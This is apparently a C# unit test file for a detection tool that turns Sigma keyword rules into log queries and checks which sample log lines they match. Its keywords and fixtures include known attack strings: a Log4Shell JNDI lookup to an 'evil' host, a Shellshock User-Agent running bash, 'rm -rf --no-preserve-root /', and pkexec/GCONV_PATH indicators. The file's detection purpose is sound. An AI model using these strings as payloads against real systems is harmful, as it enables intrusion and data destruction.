using Portal.Detection.Sigma;
using Portal.Detection.Tests.Intake;

namespace Portal.Detection.Tests.Sigma;

public class SigmaKeywordTests
{
    private const string Syslog = "product: linux\nservice: syslog";

    [Fact]
    public void OneWordKeyword_InALineBasedLog_IsAnExactSubstringSearch()
    {
        var c = SigmaSamples.Convert("keywords:\n    - REPLACE\ncondition: keywords", "product: linux\nservice: cron");

        Assert.Equal(SigmaConversionStatus.Lossless, c.Status);
        Assert.Equal("source:cron *REPLACE*", c.Query());
        Assert.True(c.Matches(IntakeSamples.Line("cron", "crontab[123]: (root) REPLACE (root)")));
        Assert.True(c.Matches(IntakeSamples.Line("cron", "crontab[123]: (root) replaced (root)")));
        Assert.False(c.Matches(IntakeSamples.Line("cron", "crontab[123]: (root) LIST (root)")));
    }

    [Fact]
    public void PhraseKeyword_IsASubstringOfTheWholeMessage()
    {
        var c = SigmaSamples.Convert("keywords:\n    - 'stopping iptables'\n    - '${jndi:ldap:/'\ncondition: keywords", Syslog);

        Assert.Equal(SigmaConversionStatus.Lossless, c.Status);
        Assert.Empty(c.Diagnostics);
        Assert.Equal(@"source:syslog (*stopping\ iptables* OR *$\{jndi\:ldap\:\/*)", c.Query());
        Assert.True(c.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host systemd[1]: Stopping iptables firewall...")));
        Assert.True(c.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host app[7]: GET /?x=${JNDI:LDAP://evil/a}")));
        // Words are not enough: the keyword is one substring, punctuation included.
        Assert.False(c.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host app[7]: stopping, iptables")));
        Assert.False(c.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host app[7]: jndi ldap")));
    }

    [Fact]
    public void KeywordWithWildcardsBetweenWords_IsPartial_EachWordMustAppear()
    {
        var c = SigmaSamples.Convert("keywords:\n    - 'Trojan*FOUND'\ncondition: keywords", "product: linux\nservice: clamav");

        Assert.Equal("source:clamav *Trojan* *FOUND*", c.Query());
        Assert.Equal(SigmaConversionStatus.Partial, c.Status);
        Assert.Contains(c.Diagnostics, d => d.Message.Contains("word by word", StringComparison.Ordinal));
    }

    [Fact]
    public void KeywordWithPunctuationAndWildcards_IsAPatternOverTheMessage()
    {
        var c = SigmaSamples.Convert("keywords:\n    - 'rm -rf * /'\ncondition: keywords", Syslog);

        Assert.Equal(SigmaConversionStatus.Lossless, c.Status);
        Assert.Equal(@"source:syslog *rm\ \-rf\ *\ \/*", c.Query());
        Assert.True(c.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host sh[7]: rm -rf --no-preserve-root /")));
        Assert.False(c.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host sh[7]: rm -r /tmp")));
    }

    [Fact]
    public void KeywordsWithAll_AreAnAnd()
    {
        var c = SigmaSamples.Convert("keywords:\n    '|all':\n        - 'pkexec'\n        - 'GCONV_PATH'\ncondition: keywords", Syslog);

        Assert.Equal("source:syslog *pkexec* *GCONV_PATH*", c.Query());
        Assert.Equal(SigmaConversionStatus.Lossless, c.Status);
    }

    [Fact]
    public void OneWordKeyword_OnJsonRecords_IsPartial()
    {
        // A CloudTrail event's message is a summary, not the record that Sigma searches.
        var c = SigmaSamples.Convert("keywords:\n    - AssumeRole\ncondition: keywords");

        Assert.Equal(SigmaConversionStatus.Partial, c.Status);
        Assert.Equal("source:cloudtrail *AssumeRole*", c.Query());
        Assert.Contains(c.Diagnostics, d => d.Message.Contains("not the whole record", StringComparison.Ordinal));
    }

    [Fact]
    public void KeywordsWithoutWords_AreSubstringsToo()
    {
        var list = SigmaSamples.Convert("keywords:\n    - '={{'\n    - 'document.cookie'\ncondition: keywords", SigmaSamples.Webserver);
        var alone = SigmaSamples.Convert("keywords:\n    - '() { :;};'\ncondition: keywords", Syslog);

        Assert.Equal(SigmaConversionStatus.Lossless, list.Status);
        Assert.EndsWith(@"(*\=\{\{* OR *document.cookie*)", list.Query(), StringComparison.Ordinal);
        Assert.Equal(SigmaConversionStatus.Lossless, alone.Status);
        Assert.True(alone.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host httpd[7]: User-Agent: () { :;}; /bin/bash -c id")));
        Assert.False(alone.Matches(IntakeSamples.Line("syslog", "Mar  3 14:05:00 host httpd[7]: User-Agent: curl/8.0")));
    }

    [Fact]
    public void KeywordThatIsAnOperator_IsAPattern()
    {
        // A lone AND would read as the operator; as a pattern it is a word like any other.
        var c = SigmaSamples.Convert("keywords:\n    - 'AND'\ncondition: keywords", "product: linux\nservice: cron");

        Assert.Equal("source:cron *AND*", c.Query());
        Assert.True(c.Matches(IntakeSamples.Line("cron", "this AND that")));
    }
}
